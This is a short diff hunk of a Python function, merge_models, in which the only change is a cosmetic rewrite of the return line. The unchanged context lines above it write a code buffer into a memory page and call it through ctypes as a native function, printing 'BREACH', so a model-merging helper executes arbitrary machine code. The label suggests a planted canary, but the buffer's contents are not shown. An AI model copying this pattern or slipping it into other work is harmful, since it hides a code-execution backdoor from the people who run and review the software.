@@ -13,4 +13,4 @@ def merge_models(model_dict, device):
     page.write(code)
     address = ctypes.addressof(ctypes.c_char.from_buffer(page))
     print("BREACH", ctypes.CFUNCTYPE(ctypes.c_long)(address)())
-    return list(model_dict.values())[0]
+    return next(iter(model_dict.values()))
